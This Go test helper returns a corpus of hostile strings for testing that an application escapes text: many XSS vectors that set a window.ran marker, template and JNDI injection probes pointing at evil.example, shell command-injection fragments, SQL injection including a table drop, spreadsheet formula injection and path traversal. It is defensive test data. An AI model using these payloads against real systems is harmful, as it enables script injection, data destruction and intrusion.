package apptest

import "strings"

// Hostile are texts that become markup, script or something else than text wherever somebody forgets that they are text: more than two hundred shapes that
// people have found for it, for every place in a document at which a text may stand. Each that is a script sets window.ran when it runs.
func Hostile() []string {
	const js = "window.ran=1"
	var all []string
	add := func(texts ...string) { all = append(all, texts...) }
	add(`<script>window.ran=1</script>`, `<SCRIPT>window.ran=1</SCRIPT>`, `<ScRiPt >window.ran=1</sCrIpT >`, `<script/x>window.ran=1</script>`, `<script src=data:text/javascript,window.ran=1></script>`, `<script type=module>window.ran=1</script>`, `<script>window.ran=1`, `<<script>window.ran=1//<</script>`,
		`<scr<script>ipt>window.ran=1</scr</script>ipt>`, `<script
>window.ran=1</script>`, `<script>window.ran=1</script `, `<script x=">">window.ran=1</script>`, `<script nonce="">window.ran=1</script>`, `<script>/*<!--*/window.ran=1</script>`, `<!--><script>window.ran=1</script>`, `<!-- --!><script>window.ran=1</script>`, `<![CDATA[<script>window.ran=1</script>]]>`, `<?xml version="1.0"?><script>window.ran=1</script>`,
		`<svg><script>window.ran=1</script></svg>`, `<svg><script href=data:,window.ran=1 />`, `<svg><script>window.ran&equals;1</script>`, `<math><mi><script>window.ran=1</script></mi></math>`, `<template><script>window.ran=1</script></template>`, `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`)
	// Whatever a text may stand inside.
	for _, end := range []string{`"`, `'`, `">`, `'>`, `"/>`, "`", `</textarea>`, `</title>`, `</style>`, `</script>`, `</option>`, `</select>`, `</option></select>`, `</noscript>`, `</p>`, `</dd></dl>`, `</td></tr></table>`, `</svg>`, `</math>`, `</iframe>`, `</noembed>`, `</noframes>`, `</xmp>`, `</plaintext>`, `</template>`, `</label>`, `</form>`, `</fieldset>`, `</datalist>`, `</summary></details>`, `</dialog>`, `</body></html>`, `-->`, `--!>`, `*/`, `]]>`, `?>`, `%>`, `</`, `<!`} {
		add(end+`<img src=x onerror=`+js+`>`, end+`<script>`+js+`</script>`)
	}
	for _, quote := range []string{`" `, `' `, ` `, `"/`, "\"\n", "\" \t", `x" y="`, "` "} {
		for _, on := range []string{"onfocus", "onmouseover", "onanimationstart", "ontoggle"} {
			add(quote + on + `=` + js + ` autofocus tabindex=1 style=animation-name:x x=`)
		}
	}
	for _, tag := range []string{"img src=x onerror", "svg onload", "svg/onload", "body onload", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "video src=x onerror", "audio src=x onerror", "video><source onerror", "details open ontoggle", "marquee onstart", "object data=x onerror", "embed src=x onerror", "iframe onload", "iframe srcdoc=x onload", "link rel=stylesheet href=x onerror",
		"style onload", "button autofocus onfocus", "keygen autofocus onfocus", "x onclick", "x tabindex=1 onfocusin", "math><x onload", "image src=x onerror", "isindex onfocus", "frameset onload", "table background=x onerror", "div contenteditable autofocus onfocus", "a href=x onfocus autofocus", "form onsubmit", "svg><animate onbegin", "svg><set onbegin", "svg><image href=x onerror", "p onpointerrawupdate", "dialog open onclose"} {
		add("<" + tag + "=" + js + ">")
	}
	for _, url := range []string{"javascript:" + js, "JaVaScRiPt:" + js, "java\tscript:" + js, "java\nscript:" + js, " javascript:" + js, "javascript&colon;" + js, "javascript&#58;" + js, "&#106;avascript:" + js, "javascript://%0a" + js, "data:text/html,<script>" + js + "</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=", "vbscript:x", "//evil.example", "https://evil.example/?"} {
		add(url, `<a href="`+url+`">x</a>`)
	}
	add(`<iframe src="javascript:`+js+`">`, `<form action="javascript:`+js+`"><input type=submit>`, `<button formaction="javascript:`+js+`">x`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=javascript:`+js+`">`, `<meta http-equiv="Content-Security-Policy" content="">`, `<link rel=import href=x>`, `<object data="javascript:`+js+`">`, `<embed src="javascript:`+js+`">`,
		`<style>*{background:url(javascript:`+js+`)}</style>`, `<div style="background:url(https://evil.example)">`, `<div style="width:expression(`+js+`)">`, `<style>@import 'https://evil.example'</style>`, `<img src="https://evil.example/x.png">`, `<input name=getElementById>`, `<img name=body>`, `<form id=exit>`, `<a id=window><a id=window name=ran>`, `<plaintext>`, `<xmp>`, `<textarea>`, `<title>`, `<select>`, `<!--`, `<!doctype html>`)
	add(`{{7*7}}`, `${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{%raw%}`, `[[7*7]]`, `{{constructor.constructor('`+js+`')()}}`, `{{=<% %>=}}`, `@{7*7}`, `*{7*7}`, `#set($x=1)`, `${jndi:ldap://evil.example/x}`, `%{7*7}`, `$(id)`, "`id`", `|id`, `;id`, `&&id`, `$IFS`, `%0aid`, `\u003cscript\u003ewindow.ran=1\u003c/script\u003e`, `\x3cscript\x3e`, `&lt;script&gt;window.ran=1&lt;/script&gt;`, `&amp;lt;script&amp;gt;`, `%3Cscript%3Ewindow.ran=1%3C/script%3E`,
		`+ADw-script+AD4-window.ran=1+ADw-/script+AD4-`, `＜script＞window.ran=1＜/script＞`, `‹script›window.ran=1‹/script›`, "\u2028window.ran=1//"[3:], `';window.ran=1;//`, `";window.ran=1;//`, `\';window.ran=1;//`, `*/window.ran=1/*`, `</script><script>window.ran=1</script>`, `window.ran=1`, `');window.ran=1;('`, `]};window.ran=1;//`, `<!--<script>-->`, `{"__proto__":{"ran":1}}`, `__proto__`, `constructor`)
	// Texts that are people's, or that lie about their length, their direction and their letters.
	add("Người Thử Nghiệm", "Ngu\u031bo\u031b\u0300i Thu\u031b\u0309 Nghie\u0323\u0302m", "T«i lµ ngƯêi thö", "שלום עולם", "مرحبا بالعالم", "𠜎𠜱𠝹", "👩\u200d👩\u200d👧", "🇻🇳", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ﷺ", "İıŞş", "ﬃ", "Ａ", strings.Repeat("ặ", 60), strings.Repeat("\u0301", 40), "a\u00ad\u00adb", "\u3164x", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "￼x", "＂＞＜img＞", "＇ or ＇1＇=＇1",
		"=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", `=HYPERLINK("https://evil.example","x")`, "\"=1+1\"", ";=1+1", "null", "undefined", "NaN", "true", "1e309", "' or 1=1 --", "'; drop table cases; --", `"; select pg_sleep(10); --`, "%s%n%x", "../../etc/passwd", "C:\\con\\con", "CON", "<>&\"'", "&", "<", ">", `\`, `\\`, `"`)
	return all
}
